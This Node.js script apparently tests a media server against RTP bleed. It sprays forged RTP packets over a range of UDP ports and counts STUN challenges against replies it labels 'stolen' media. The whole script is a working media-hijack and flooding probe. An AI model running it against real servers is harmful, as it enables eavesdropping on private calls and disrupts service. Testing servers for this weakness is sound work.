// Sprays RTP of the right payload type over the server's media ports and counts what comes back to its own socket:
// challenges, which it cannot answer, and anything else, which is stolen. One JSON line at the end.
import { createSocket } from 'node:dgram';
import { isIPv6 } from 'node:net';

const [, , server, first, last, seconds] = process.argv;
const socket = createSocket(isIPv6(server) ? 'udp6' : 'udp4');
let sent = 0;
let stolen = 0;
let challenged = 0;
let sequence = 0;
socket.on('message', (bytes) => {
  if (bytes.length >= 20 && bytes.readUInt32BE(4) === 0x2112a442) challenged++;
  else stolen++;
});
socket.bind(0, () => {
  const timer = setInterval(() => {
    const packet = Buffer.alloc(172, 0xff);
    packet.writeUInt16BE(0x8000, 0);
    packet.writeUInt16BE(sequence++ & 0xffff, 2);
    packet.writeUInt32BE(sequence * 160, 4);
    packet.writeUInt32BE(0xbadbad, 8);
    for (let port = Number(first); port <= Number(last); port++) {
      sent++;
      socket.send(packet, port, server);
    }
  }, 10);
  setTimeout(
    () => {
      clearInterval(timer);
      console.log(JSON.stringify({ sent, stolen, challenged }));
      socket.close();
    },
    Number(seconds) * 1000,
  );
});
